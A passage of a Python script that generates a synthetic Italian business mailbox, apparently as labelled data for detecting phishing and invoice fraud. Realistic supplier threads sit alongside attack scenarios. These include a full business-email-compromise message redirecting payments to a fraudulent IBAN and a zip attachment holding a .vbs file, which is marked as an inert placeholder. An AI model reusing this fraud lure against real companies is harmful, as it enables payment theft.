                  "Questo messaggio è stato generato automaticamente dal Sistema di Interscambio. Non rispondere.",
                  [(fname, p7m, "application/pkcs7-mime"), (fname.replace(".xml.p7m", "_MT_001.xml"), meta.encode(), "text/xml")],
                  label=label, scen=scen, mailer=None)


def sdi_scarto(t, idsdi, fname, err, label=None, scen=None):
    ns = (f'<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="NS_v1.0.xsl"?>\n<ns3:NotificaScarto '
          f'xmlns:ns3="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/messaggi/v1.0" versione="1.0"><IdentificativoSdI>{idsdi}</IdentificativoSdI>'
          f"<NomeFile>{fname}</NomeFile><DataOraRicezione>{(t - TD(hours=2)).strftime('%Y-%m-%dT%H:%M:%S.000%z')[:-2]}:00</DataOraRicezione><ListaErrori><Errore>"
          f"<Codice>{err[0]}</Codice><Descrizione>{xml_esc(err[1])}</Descrizione></Errore></ListaErrori><MessageId>{R.randint(10**9, 10**10 - 1)}</MessageId>"
          f"<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:SignatureValue>{b64(128)}</ds:SignatureValue></ds:Signature></ns3:NotificaScarto>\n")
    nsname = fname.replace(".xml", "_NS_001.xml")
    return pec_in(t, "sdi24@pec.fatturapa.example", "pec.fatturapa.example", f"Notifica di scarto {idsdi}",
                  f"Il file {fname} trasmesso al Sistema di Interscambio è stato scartato.\nSi trasmette in allegato la notifica di scarto {nsname}.\n\n"
                  "Questo messaggio è stato generato automaticamente dal Sistema di Interscambio. Non rispondere.",
                  [(nsname, ns.encode(), "text/xml")], label=label, scen=scen, mailer=None)


# ---------------------------------------------------------------- notifications, newsletters, list
btc_n = Pt("Banca Toscana Credito", "noreply@comunicazioni.bancatoscanacredito.example", "bulk", "btc-notif")
vx = Pt("Veloce Express", "noreply@notifiche.velocexpress.example", "bulk", "velocex")
scap = Pt("Salon Cuir & Accessoires Paris", "news@scaparis.example", "bulk", "mc-scap", tz=PAR, lang="fr")
cciaa = Pt("Camera di Commercio di Firenze", "newsletter@fi.camcom.example", "bulk", "cciaa")
aruba = Pt("Aruba.it", "comunicazioni@staff.aruba.example", "bulk", "aruba-notice")
dsign = Pt("Megan O'Connell via Docusign", "dse_NA4@docusign.net", "bulk", "docusign", tz=NYC, lang="en")


def bulk(who, t, subj, plain, html, extra=(), label=None, scen=None, atts=(), mid=None, to=None):
    tree = multi("alternative", [leaf("text/plain; charset=UTF-8", qp(plain), "quoted-printable"), leaf("text/html; charset=UTF-8", qp(html), "quoted-printable")],
                 "----=_Part_" + hx(24))
    if atts: tree = multi("mixed", [tree] + [att_part("bulk", n, d, c, t) for n, d, c in atts], "----=_Part_" + hx(24))
    return emit(who, "bulk", t, to or [(me.name, me.email)], None, subj, [], plain, tree=tree, extra=extra, label=label, scen=scen,
                mid=mid or f"<{hx(16)}.{int(t.timestamp())}@{who.dom}>")


def html_mail(title, paras, button=None, foot="", brand="#1d3557"):
    b = (f'<p style="margin:24px 0"><a href="{button[1]}" style="background:{brand};color:#fff;padding:10px 18px;text-decoration:none;border-radius:3px">'
         f"{H.escape(button[0])}</a></p>") if button else ""
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head><body style="margin:0;background:#f2f2f2">'
            '<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table role="presentation" width="600" '
            'style="background:#fff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">'
            f'<tr><td style="background:{brand};color:#fff;padding:14px 20px;font-size:18px">{H.escape(title)}</td></tr><tr><td style="padding:20px">'
            + "".join(f"<p>{_esc(p)}</p>" for p in paras) + b + f'</td></tr><tr><td style="padding:12px 20px;font-size:11px;color:#777">{foot}</td></tr>'
            "</table></td></tr></table></body></html>")


def btc_notice(t, subj, lines, label=None, scen=None):
    link = "https://inbank.bancatoscanacredito.example/impresa/login"
    plain = ("Gentile Cliente,\n\n" + "\n".join(lines) + f"\n\nPer i dettagli accedi a Inbank Impresa: {link}\n\nCordiali saluti\nBanca Toscana Credito S.p.A.\n\n"
             "Questa è una comunicazione automatica, ti preghiamo di non rispondere. La Banca non ti chiederà mai via e-mail o SMS codici, password o "
             "dati del dispositivo di sicurezza.")
    html = html_mail(subj, ["Gentile Cliente,"] + lines + ["Cordiali saluti<br>Banca Toscana Credito S.p.A."], ("Accedi a Inbank Impresa", link),
                     "Comunicazione automatica, non rispondere. La Banca non ti chiederà mai via e-mail o SMS codici, password o dati del dispositivo di sicurezza.", "#00594f")
    return bulk(btc_n, t, subj, plain, html, extra=[("Auto-Submitted", "auto-generated"), ("X-Auto-Response-Suppress", "All")], label=label, scen=scen)


def vx_notice(t, sped, dest, state, label=None, scen=None):
    link = f"https://www.velocexpress.example/tracking?spedizione={sped}&lang=it"
    txt = {"affidata": f"la spedizione n. {sped} destinata a {dest} è stata affidata a Veloce Express ed è in viaggio.",
           "consegna": f"la spedizione n. {sped} destinata a {dest} è in consegna oggi.",
           "consegnata": f"la spedizione n. {sped} destinata a {dest} è stata consegnata. Firmato da: {dest.split(',')[0].split(' ')[0].upper()}."}[state]
    plain = f"Gentile Pelletteria Arnolfi S.r.l.,\n\n{txt}\n\nSegui la spedizione: {link}\n\nVeloce Express S.p.A. - Servizio Clienti 055 555 0800\nMessaggio automatico, non rispondere."
    html = html_mail(f"Spedizione {sped}", ["Gentile Pelletteria Arnolfi S.r.l.,", txt], ("Segui la spedizione", link),
                     "Veloce Express S.p.A. - Servizio Clienti 055 555 0800 - messaggio automatico, non rispondere.", "#c8102e")
    subj = {"affidata": f"Spedizione {sped} affidata", "consegna": f"Spedizione {sped} in consegna oggi", "consegnata": f"Spedizione {sped} consegnata"}[state]
    return bulk(vx, t, subj, plain, html, extra=[("Auto-Submitted", "auto-generated")], label=label, scen=scen)


LIST = "export-moda@liste.cna-toscana.example"
LFOOT = ("\n\n_______________________________________________\nExport Moda - lista di discussione CNA Toscana -- " + LIST +
         "\nPer cancellarti invia un'email a export-moda-leave@liste.cna-toscana.example")


def list_post(member, mclient, t, subj, text, refs=(), label=None, scen=None, rewrite=False, atts=(), host=None, ip=None):
    hsh = "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(32))
    lid = "export-moda.liste.cna-toscana.example"
    extra = [("Message-ID-Hash", hsh), ("X-Message-ID-Hash", hsh), ("X-MailFrom", member.email),
             ("X-Mailman-Rule-Misses", "dmarc-mitigation; no-senders; approved; loop; banned-address; emergency; member-moderation; nonmember-moderation; "
                                       "administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header"),
             ("X-Mailman-Version", "3.3.9"), ("Precedence", "list"), ("List-Id", f"Export Moda - CNA Toscana <{lid}>"),
             ("Archived-At", f"<https://liste.cna-toscana.example/hyperkitty/list/{LIST}/message/{hsh}/>"),
             ("List-Archive", f"<https://liste.cna-toscana.example/hyperkitty/list/{LIST}/>"), ("List-Help", f"<mailto:export-moda-request@liste.cna-toscana.example?subject=help>"),
             ("List-Owner", "<mailto:export-moda-owner@liste.cna-toscana.example>"), ("List-Post", f"<mailto:{LIST}>"),
             ("List-Subscribe", "<mailto:export-moda-join@liste.cna-toscana.example>"), ("List-Unsubscribe", "<mailto:export-moda-leave@liste.cna-toscana.example>")]
    frm = None; fd = member.dom
    if rewrite:
        frm = addr(f"{member.name} via Export Moda", LIST); fd = "liste.cna-toscana.example"
        extra.insert(0, ("Reply-To", addr(member.name, member.email)))
    plain = text + LFOOT
    return emit(member, mclient, t, [("Export Moda", LIST)], None, subj, list(refs), plain, extra=extra, label=label, scen=scen, infra="mailman",
                frm=frm, from_dom=fd, atts=atts, no_html=True,
                opt={"member_host": host or f"mail.{member.dom}", "member_ip": ip or f"93.{R.randint(40, 60)}.{R.randint(1, 250)}.{R.randint(1, 250)}",
                     "orig_dkim": (member.dom, "default"), "dmarc": ("none" if not rewrite else "none")})


# ================================================================================================ CONTENT
IBAN_VALD = iban_it("08425", "71140", "000000318472")       # Conceria Valdarno, BCC (real, in FatturaPA)
IBAN_VALD_FAKE = iban_it("36772", "22400", "CC0044719305")  # A2 mule account at an online bank
IBAN_GORI_OLD = iban_it("05034", "38010", "000000004417")
IBAN_GORI_NEW = iban_it("08673", "38100", "000000108822")
IBAN_FRAC = iban_it("03069", "02903", "100000062214")
IBAN_FRAC_FAKE = iban_lt("32500", "66104" + digits(6))
IBAN_ARN = iban_it("08425", "38080", "000000227190")        # Pelletteria Arnolfi at Banca Toscana Credito
P_VALD = ("Conceria Valdarno S.p.A.", piva("0184123050"), "Via del Bosco 44", "56029", "Santa Croce sull'Arno", "PI")
P_ARN = ("Pelletteria Arnolfi S.r.l.", PIVA_ARN, "Via Pisana 312", "50018", "Scandicci", "FI")

# ================================================================ T1 Valdarno: AW25 calf order
t1 = Thread("T1", marco, "Offerta vitello liscio AW25")
t1.add(me, "Buongiorno Marco,\n\nper la collezione autunno-inverno 2025 avremmo bisogno di un'offerta per il vitello liscio spessore 1,2-1,4 mm nei colori "
       "nero, cuoio e testa di moro, circa 1.800 piedi quadri per colore. Ci servirebbe anche una campionatura del bottalato grana fine in bordeaux, "
       "se l'avete ancora a catalogo.\nMi mandi prezzi e tempi di consegna?\n\nGrazie, buona giornata", at(2024, 9, 10, 9, 20))
t1.add(marco, "Buongiorno Giulia,\n\nin allegato l'offerta n. 24/0917. Il vitello liscio è disponibile nei tre colori, consegna in 4 settimane dall'ordine; "
       "il bottalato bordeaux lo abbiamo a magazzino, ti faccio spedire 3 pelli campione con il prossimo giro del corriere.\nPrezzi validi fino a fine ottobre.\n\n"
       "Cordiali saluti", at(2024, 9, 11, 11, 5),
       atts=[("Offerta 24-0917 Pelletteria Arnolfi.pdf", pdf(["Conceria Valdarno S.p.A. - Offerta n. 24/0917", "Vitello liscio 1,2-1,4 mm nero/cuoio/testa di moro",
                                                               "EUR 4,85/pq - consegna 4 settimane", "Bottalato grana fine bordeaux EUR 5,10/pq"], when="20240911105000", zone="+02'00'"), "application/pdf")])
t1.add(me, "Ciao Marco,\n\ngrazie. Procediamo con 1.800 piedi per nero e cuoio e 1.200 per testa di moro. Ti mando l'ordine firmato da Roberto nel pomeriggio. "
       "Consegna franco nostro magazzino di Scandicci, come sempre.\n\nSaluti", at(2024, 9, 16, 10, 2))
t1.add(marco, "Perfetto, attendo l'ordine. Il bottalato campione è partito stamattina.", at(2024, 9, 16, 15, 40))
t1.add(me, "Ecco l'ordine n. 118/24 firmato. Se possibile consegna entro il 18 ottobre.", at(2024, 9, 17, 9, 12),
       atts=[("Ordine 118-24 Conceria Valdarno.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Ordine fornitore n. 118/24", "Vitello liscio nero 1.800 pq, cuoio 1.800 pq",
                                                           "Vitello liscio testa di moro 1.200 pq", "Resa: franco magazzino Scandicci"], when="20240917090500", zone="+02'00'"), "application/pdf")])
t1.add(marco, "Ricevuto, confermo la consegna per la settimana del 14 ottobre. La conferma d'ordine te la manda l'ufficio.", at(2024, 9, 18, 8, 47))
t1.add(marco, "Giulia, il vitello nero e cuoio parte domani con il nostro camion, la testa di moro slitta di una settimana perché il bagno di tintura non "
       "ci convince. Ti aggiorno.", at(2024, 10, 15, 17, 31))
t1.add(me, "Va bene, grazie dell'avviso. Basta che arrivi entro fine mese per il taglio.", at(2024, 10, 15, 17, 58))
t1.add(marco, "Testa di moro pronta, consegna venerdì mattina.", at(2024, 10, 23, 12, 14))
t1.add(me, "Ciao Marco, a gennaio avremo bisogno di un riassortimento del nero (circa 800 piedi). Ci sentiamo dopo le feste? "
       "Buon Natale a te e a tutti in conceria!", at(2024, 12, 20, 16, 40))
t1.add(marco, "Gentile cliente,\n\nla conceria resterà chiusa per le festività dal 21 dicembre 2024 al 6 gennaio 2025. Per urgenze potete chiamare il "
       "numero 0571 555 300.\nRisponderò al mio rientro.\n\nMarco Bellucci\nConceria Valdarno S.p.A.", at(2024, 12, 20, 16, 41), GH, client="sieve", sig=False,
       quote=False, subj="Risposta automatica: R: Offerta vitello liscio AW25", detached=True, no_html=True,
       extra=[("Auto-Submitted", "auto-replied (vacation)"), ("Precedence", "bulk"), ("X-Autoreply", "yes")],
       scen=("G26", "tannery's server-side out-of-office autoreply (Aruba sieve) in the thread over Christmas"))
t1.add(marco, "Buongiorno Giulia e buon anno! Per il riassortimento del nero ti confermo la disponibilità: 800 piedi in consegna il 24/01. Procedo?",
       at(2025, 1, 8, 9, 3))
t1.add(me, "Buon anno anche a te! Sì, procedi pure, ordine n. 7/25 in allegato.", at(2025, 1, 8, 9, 40),
       atts=[("Ordine 7-25 Conceria Valdarno.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Ordine fornitore n. 7/25", "Vitello liscio nero 800 pq", "Consegna 24/01/2025"],
                                                        when="20250108093500"), "application/pdf")])
t1.add(marco, "Confermato, grazie.", at(2025, 1, 9, 8, 22))

# ================================================================ T2 Valdarno: defective lot claim (PEC receipts) ... revived in April
pec_claim_mid = f"<{hx(8)}.{hx(4)}.{int(at(2024, 10, 28, 10, 1).timestamp())}@pec.example>"
pec_claim_subj = "Contestazione partita vitello testa di moro - DDT 1187 del 25/10/2024"
pec_claim_t = at(2024, 10, 28, 10, 1)
pec_claim_raw = inner_message(PEC_ME, "conceriavaldarno@pec.example", pec_claim_subj, pec_claim_t, pec_claim_mid,
                              "Spett.le Conceria Valdarno S.p.A.,\n\ncon la presente contestiamo formalmente n. 6 pelli della partita in oggetto per difetti di "
                              "rifinizione (macchie in zona fianco, cedimento della grana in piega), per circa 140 pq, che teniamo a vostra disposizione.\n\n"
                              "Distinti saluti\nPelletteria Arnolfi S.r.l.", [], mailer="Aruba PEC Webmail")
pec_receipt(at(2024, 10, 28, 10, 1), "accettazione", pec_claim_subj, pec_claim_mid, "conceriavaldarno@pec.example", GH,
            ("G2", "PEC ACCETTAZIONE receipt for a claim sent from the company PEC box (daticert.xml + smime.p7s, X-Riferimento-Message-ID, no reply headers)"))
pec_receipt(at(2024, 10, 28, 10, 2), "consegna", pec_claim_subj, pec_claim_mid, "conceriavaldarno@pec.example", GH,
            ("G3", "PEC CONSEGNA receipt with the full original as postacert.eml"), full_raw=pec_claim_raw)
t2 = Thread("T2", marco, "Difetti partita testa di moro - DDT 1187")
t2.add(me, "Ciao Marco,\n\nnel lotto di testa di moro consegnato venerdì (DDT 1187 del 25/10) abbiamo trovato 6 pelli con difetti di rifinizione: macchie "
       "chiare in zona fianco e la grana che si spacca in piega. Ti allego le foto. Per ora le abbiamo messe da parte, sono circa 140 piedi.\n"
       "Come volete procedere? Stamattina vi ho mandato anche la contestazione formale via PEC, come chiede il vostro ufficio qualità.\n\nGrazie",
       at(2024, 10, 28, 10, 30), cc=[(elena.name, elena.email)],
       atts=[(f"IMG_20241028_{n}.jpg", jpeg(R.randint(2500, 4000)), "image/jpeg") for n in ("101422", "101437", "101509")])
t2.add(marco, "Ciao Giulia, ho girato le foto al nostro responsabile qualità. Se riesci a tenere le pelli da parte passiamo a vederle giovedì.",
       at(2024, 10, 28, 16, 10), cc=[(elena.name, elena.email)])
t2.add(me, "Certo, giovedì va bene, meglio in mattinata.", at(2024, 10, 28, 16, 32))
t2.add(marco, "Come visto stamattina, le 6 pelli sono da sostituire. Preferite la sostituzione o la nota di credito? Nel secondo caso ve la manda "
       "l'amministrazione appena chiude il mese.", at(2024, 10, 31, 14, 5))
t2.add(me, "Preferiamo la nota di credito, il taglio ormai l'abbiamo fatto con altro materiale. Grazie per la disponibilità.", at(2024, 10, 31, 14, 40))

# ================================================================ SDI: Valdarno invoice 131 (G4) and Arnolfi's rejected invoice (G5)
sdi_in(at(2024, 12, 2, 6, 14), "4837261950", f"IT{P_VALD[1]}_{alnum(5)}.xml.p7m",
       fattura_xml(P_VALD, P_ARN, "131", "2024-11-30", [("Vitello liscio nero 1,2-1,4 mm", 600.0, 4.85), ("Vitello liscio cuoio 1,2-1,4 mm", 701.5, 4.85)],
                   IBAN_VALD, "Banca di Credito Cooperativo del Valdarno", pag="MP12", scad="2025-01-31"),
       GH, ("G4", "SDI 'Invio File' via PEC: Valdarno's FatturaPA .xml.p7m (real IBAN inside) and metadata file"))
sdi_scarto(at(2025, 1, 9, 11, 52), "4901177324", f"IT{PIVA_ARN}_{alnum(5)}.xml",
           ("00305", "1.4.1.1 IdFiscaleIVA del CessionarioCommittente non valido: 01884520463"), GH,
           ("G5", "SDI 'Notifica di scarto' via PEC for one of Arnolfi's own invoices"))

# ================================================================ T3 Valdarno: payment schedule; G27 new mobile; A2 account takeover (IBAN 'fusione')
t3 = Thread("T3", vald_amm, "Estratto conto al 31/12/2024")
t3.add(vald_amm, "Buongiorno,\n\nin allegato l'estratto conto al 31/12/2024 con le scadenze del primo trimestre. Vi ricordiamo che le fatture di novembre "
       "e dicembre sono in RiBa a 60 gg fine mese.\n\nCordiali saluti", at(2025, 1, 20, 10, 12),
       atts=[("EC_Pelletteria_Arnolfi_31-12-2024.pdf", pdf(["Conceria Valdarno S.p.A. - Estratto conto cliente al 31/12/2024", "Fatt. 118 del 31/10/2024 EUR 14.220,10 RiBa 31/12",
                                                             "Fatt. 131 del 30/11/2024 EUR 6.412,40 RiBa 31/01", "Fatt. 142 del 31/12/2024 EUR 4.738,80 RiBa 28/02"],
                                                            when="20250120100800"), "application/pdf")])
t3.add(me, "Buongiorno Silvia,\n\ngrazie. Verifico con la nostra amministrazione e vi faccio sapere se ci sono differenze.\n\nSaluti", at(2025, 1, 21, 8, 55),
       to=[(vald_amm.name, vald_amm.email)], cc=[(marco.name, marco.email)])
t3.add(marco, "Ciao Giulia,\n\nti segnalo che da oggi ho un nuovo numero di cellulare aziendale, il 366 555 8127; il vecchio resta attivo fino a fine mese "
       "e poi viene disattivato. L'estratto conto te l'ha già mandato Silvia, giusto?\n\nA presto", at(2025, 1, 27, 9, 41), GH, sig=MARCO_SIG2,
       scen=("G27", "tannery sales contact announces his new mobile number; signature changes from here on"))
t3.add(me, "Ciao Marco, sì grazie, ricevuto. Aggiorno il numero in rubrica.", at(2025, 1, 27, 10, 5), to=[(marco.name, marco.email)])
marco.sig = MARCO_SIG2
t3.add(me, "Buongiorno Silvia,\n\nabbiamo verificato l'estratto conto: torna tutto tranne la fattura 131 del 30/11, che a noi risulta di € 6.312,40 e "
       "non di € 6.412,40. Potete controllare?\n\nGrazie", at(2025, 2, 3, 11, 20), to=[(vald_amm.name, vald_amm.email)], cc=[(marco.name, marco.email)])
t3.add(vald_amm, "Buongiorno Giulia,\n\navete ragione, è un errore di battitura nell'estratto: l'importo corretto è € 6.312,40 e la RiBa è stata emessa "
       "per quell'importo. Scusate.\n\nCordiali saluti", at(2025, 2, 4, 9, 18), cc=[(marco.name, marco.email)])
t3.add(marco, "Buonasera Giulia,\n\nti scrivo per conto della nostra amministrazione. Come forse sai, con il 1° febbraio si è perfezionata la fusione per "
       "incorporazione della Conceria Valdarno nel gruppo Pellami Riuniti Toscani e per motivi di fusione tutti gli incassi vengono ora accentrati su un "
       "nuovo conto dedicato. Le RiBa già emesse sul vecchio conto (fatture 131 e 142) verranno richiamate da noi, quindi vi chiedo di non pagarle in banca "
       "ma di procedere con un bonifico unico sul conto qui sotto:\n\nBeneficiario: Conceria Valdarno S.p.A.\nBanca: Banca Digitale Italiana S.p.A.\n"
       f"IBAN: {IBAN_VALD_FAKE}\nImporto: € 11.051,20 (fatt. 131 € 6.312,40 + fatt. 142 € 4.738,80)\nCausale: saldo fatture 131-142 Pelletteria Arnolfi\n\n"
       "Per non bloccare le prossime consegne vi chiederei di disporlo entro venerdì 14. La comunicazione ufficiale su carta intestata vi arriverà per "
       "posta nei prossimi giorni; nel frattempo per qualsiasi dubbio scrivetemi pure qui, in questi giorni sono poco raggiungibile al telefono.\n\n"
       "Grazie per la collaborazione", at(2025, 2, 11, 19, 48), HJ("account-takeover"), client="roundcube",
       sig="\n\nMarco Bellucci\nUfficio Commerciale\nConceria Valdarno S.p.A.\nCell. 335 555 1904",
       opt={"ip": f"102.89.{R.randint(32, 47)}.{R.randint(2, 250)}", "rcver": "1.4.15"},
       scen=("A2", "tannery account used via Aruba webmail from a foreign IP: new IBAN 'per motivi di fusione', existing RiBa to be ignored, "
                   "old mobile number in the signature, Roundcube quote of the real thread, no payload"))

# ================================================================ T4 Il Ponte: colour sampling; G31 WeTransfer; A1 server-hijack zip+.vbs
t4 = Thread("T4", sandro, "Campionatura nappa colori pastello SS25")
t4.add(me, "Ciao Sandro,\n\nper la linea di borse SS25 stiamo cercando una nappa di vitello morbida in colori pastello: salvia, cipria, azzurro polvere e "
       "burro. Riuscite a fare una campionatura su 4 pelli per colore? Spessore 1,0-1,1.\nSe ti servono passo io a portarvi le cartelle colore.\n\nGrazie!",
       at(2024, 10, 2, 11, 4))
t4.add(sandro, "ciao giulia, si si possiamo farla. portami pure le cartelle che le facciamo tingere sul bottale piccolo, ci vogliono una decina di "
       "giorni. passa quando vuoi la mattina", at(2024, 10, 2, 18, 22), opt={"xoip": "79.40.118.22"})
t4.add(me, "Perfetto, passo giovedì verso le 10.", at(2024, 10, 3, 8, 31))
t4.add(sandro, "giulia le pelli campione sono pronte, le foto le ho fatte col telefono ma vengono male, ti mando quelle buone appena le scarica mio "
       "figlio. il salvia è venuto un po' scuro, dimmi te", at(2024, 10, 16, 17, 50), opt={"xoip": "79.40.118.22"})
t4.add(sandro, f"ecco le foto in alta risoluzione, sono pesanti quindi mio figlio le ha messe su wetransfer:\nhttps://we.tl/t-{alnum(10)}\n"
       "scadono tra una settimana", at(2024, 10, 17, 12, 36), GH, opt={"xoip": "79.40.118.22"},
       scen=("G31", "tannery sends a WeTransfer link to the hi-res photos he announced (first link in the thread)"))
t4.add(me, "Grazie Sandro, viste. Il salvia in effetti è troppo scuro, proverei con meno verde; gli altri tre sono perfetti. Vi mando il colore di "
       "riferimento per il salvia con il corriere.", at(2024, 10, 17, 15, 2))
t4.add(sandro, "rifatto il salvia, ora è giusto secondo me. ti mando le 4 pelli con le altre domani", at(2024, 10, 29, 18, 5), opt={"xoip": "79.40.118.22"})
t4.add(me, "Ricevute, vanno benissimo tutte e quattro. Ti faccio sapere i metraggi per l'ordine dopo la riunione con l'ufficio stile.", at(2024, 11, 4, 9, 48))
t4_giulia = t4.last; t4_giulia_mid = t4.refs[-1]
t4.add(sandro, "ok aspetto", at(2024, 11, 5, 7, 58), opt={"xoip": "79.40.118.22"})
t4.add(sandro, "Buongiorno,\n\nin allegato il campionario colori aggiornato con i nuovi codici, come da accordi.\nIl file è compresso perché pesante, va "
       "estratto e aperto sul computer.\nAttendiamo vostra conferma dei colori entro venerdì.\n\nCordiali saluti\nConceria Il Ponte snc",
       at(2025, 1, 16, 7, 12), HJ("server-hijack"), sig=False, quote_rec=t4_giulia, irt=t4_giulia_mid, opt={"xoip": "79.40.118.22"},
       atts=[("Campionario_colori_SS25_rev2.zip", zipfile_bytes([("Campionario_colori_SS25_rev2.vbs",
             b"' Campionario colori SS25 rev2\r\n' inert probe placeholder - no executable content\r\nOption Explicit\r\nDim msg\r\n"
             b"msg = \"inert probe placeholder\"\r\n' (the original downloader line was removed)\r\n")], (2025, 1, 16, 7, 8, 0)), "application/zip")],
       scen=("A1", "tannery's real Libero webmail (same headers, same client IP): formal generic 'campionario colori' reply with a zip holding a .vbs, "
                   "quotes Giulia's two-month-old message; the owner always writes lowercase and signs 'Sandro'"))

# ================================================================ T5 Il Ponte: nappa order
t5 = Thread("T5", sandro, "Ordine nappa SS25 n. 24/25")
t5.add(me, "Ciao Sandro,\n\nti confermo l'ordine per la nappa SS25 come da campionatura: 900 piedi cipria, 700 azzurro polvere, 700 burro, 500 salvia "
       "(ricetta della seconda prova). Ordine n. 24/25 in allegato. Consegna entro il 21 marzo, se ce la fate.\n\nGrazie", at(2025, 2, 18, 10, 15),
       atts=[("Ordine 24-25 Conceria Il Ponte.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Ordine fornitore n. 24/25", "Nappa vitello 1,0-1,1: cipria 900 pq, azzurro polvere 700 pq",
                                                          "burro 700 pq, salvia (2a prova) 500 pq", "Consegna entro 21/03/2025"], when="20250218100900"), "application/pdf")])
t5.add(sandro, "ricevuto grazie. per il 21 ce la facciamo, forse il burro qualche giorno prima", at(2025, 2, 18, 19, 5), opt={"xoip": "79.40.118.22"})
t5.add(sandro, "giulia il burro e il cipria sono pronti, li porto io venerdì col furgone. gli altri due la settimana dopo", at(2025, 3, 12, 17, 44), opt={"xoip": "79.40.118.22"})
t5.add(me, "Benissimo, venerdì c'è Elena in magazzino fino alle 17.", at(2025, 3, 12, 18, 2))
t5.add(sandro, "consegnato anche salvia e azzurro. la fattura te la manda il commercialista via sdi come sempre", at(2025, 3, 20, 16, 12), opt={"xoip": "79.40.118.22"})
t5.add(me, "Grazie Sandro, tutto ok anche al controllo qualità.", at(2025, 3, 21, 9, 30))
P_PONTE = ("Conceria Il Ponte di Nuti Sandro & C. snc", piva("0152977050"), "Via Provinciale Francesca 81", "56028", "San Miniato", "PI")
sdi_in(at(2025, 3, 31, 6, 40), "5102248817", f"IT{P_PONTE[1]}_{alnum(5)}.xml.p7m",
       fattura_xml(P_PONTE, P_ARN, "38/2025", "2025-03-31", [("Nappa vitello cipria", 900.0, 5.3), ("Nappa vitello burro", 700.0, 5.3),
                                                              ("Nappa vitello azzurro polvere", 700.0, 5.3), ("Nappa vitello salvia", 500.0, 5.3)],
                   iban_it("03069", "71120", "100000012093"), "Banca del Valdarno", scad="2025-05-31"), signer=("Studio Gherardini", "GHERARDINI LUCA"))

# ================================================================ T6 Gori: buckles for SS25
t6 = Thread("T6", alessio, "Offerta fibbie serie Arno SS25")
t6.add(me, "Ciao Alessio,\n\nper la SS25 ci servono le fibbie della serie Arno in finitura ottone satinato e canna di fucile, 25 e 30 mm, più i terminali "
       "zip coordinati. Mi mandi l'offerta per 2.000 pezzi per tipo? E i tempi, visto che a novembre siete sempre pieni.\n\nGrazie", at(2024, 9, 24, 14, 20))
t6.add(alessio, "Ciao Giulia,\n\nofferta in allegato. Per la canna di fucile i tempi sono 5 settimane perché la galvanica esterna è piena; l'ottone "
       "satinato 3 settimane. Se confermi entro venerdì ti blocco la produzione di ottobre.\n\nA presto", at(2024, 9, 25, 9, 12), opt={"xoip": "2.236.14.87"},
       atts=[("Offerta_2024_188.pdf", pdf(["Minuterie Metalliche Gori - Offerta n. 188/2024", "Fibbia Arno 25 mm ottone satinato / canna di fucile",
                                            "Fibbia Arno 30 mm ottone satinato / canna di fucile", "Terminali zip coordinati"], producer="LibreOffice 7.5",
                                           when="20240925090500", zone="+02'00'"), "application/pdf")])
t6.add(me, "Confermo tutto come da offerta. Ordine n. 131/24 in allegato.", at(2024, 9, 26, 11, 3),
       atts=[("Ordine 131-24 Minuterie Gori.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Ordine fornitore n. 131/24", "Rif. offerta 188/2024",
                                                        "8.000 fibbie Arno, 4.000 terminali zip"], when="20240926110000", zone="+02'00'"), "application/pdf")])
t6.add(alessio, "Ricevuto, grazie. Ti aggiorno sulla galvanica.", at(2024, 9, 26, 12, 40), opt={"xoip": "2.236.14.87"})
t6.add(alessio, "Giulia, l'ottone satinato è pronto, te lo porto giovedì. Per la canna di fucile la galvanica ci ha dato il 18 novembre.",
       at(2024, 10, 28, 8, 55), opt={"xoip": "2.236.14.87"})
t6.add(me, "Ok, grazie. Il 18 va ancora bene.", at(2024, 10, 28, 9, 20))
t6.add(alessio, "Canna di fucile pronta, consegna domani mattina insieme ai terminali.", at(2024, 11, 19, 16, 30), opt={"xoip": "2.236.14.87"})
t6.add(me, "Arrivato tutto, grazie Alessio.", at(2024, 11, 20, 12, 5))

# ================================================================ T7 Gori: new bank details (G6), verified by phone (Sent), first invoice (G7)
t7 = Thread("T7", alessio, "Pagamento fattura 22/2025")
t7.add(me, "Ciao Alessio,\n\nla vostra fattura 22 del 31/01 è in scadenza a fine mese: la paghiamo come sempre con bonifico sul conto della Banca del Mugello?\n\n"
       "Grazie", at(2025, 2, 14, 10, 2))
t7.add(alessio, "Buongiorno Giulia,\n\nsì, la 22 pagatela pure sul vecchio conto. Colgo l'occasione per dirti che dal 1° marzo spostiamo il conto aziendale "
       "dalla Banca del Mugello alla BCC di Cambiano, filiale di Sesto Fiorentino: in allegato la lettera con le nuove coordinate firmata da mio padre. "
       "Le fatture con scadenza da marzo in poi avranno le coordinate nuove.\nSe volete una conferma chiamatemi pure in ditta allo 055 555 4471.\n\n"
       "Grazie e buona giornata", at(2025, 2, 17, 8, 40), GH, opt={"xoip": "2.236.14.87"},
       atts=[("Comunicazione_nuove_coordinate_bancarie.pdf", pdf(["Minuterie Metalliche Gori di Gori Fabio", "Sesto Fiorentino, 14 febbraio 2025",
                                                                   "Oggetto: variazione coordinate bancarie dal 01/03/2025", "Banca: BCC di Cambiano - filiale di Sesto Fiorentino",
                                                                   f"IBAN: {IBAN_GORI_NEW}", "Il titolare - Fabio Gori"], producer="Canon iR-ADV C3826 PDF",
                                                                  when="20250214173000"), "application/pdf")],
       scen=("G6", "supplier announces new bank details with a signed letter PDF, offers a phone call to verify (Giulia verifies, confirmed in Sent)"))
t7.add(me, "Ciao Alessio,\n\nti ho chiamato in ditta poco fa per conferma, mi ha risposto tuo padre: coordinate nuove verificate, aggiorniamo "
       "l'anagrafica dal 1° marzo. La fattura 22 la paghiamo sul vecchio conto come da vostra indicazione.\n\nGrazie", at(2025, 2, 17, 11, 25),
       cc=[(elena.name, elena.email)])
t7.add(alessio, "Perfetto, grazie a voi.", at(2025, 2, 17, 12, 2), opt={"xoip": "2.236.14.87"}, cc=[(elena.name, elena.email)])
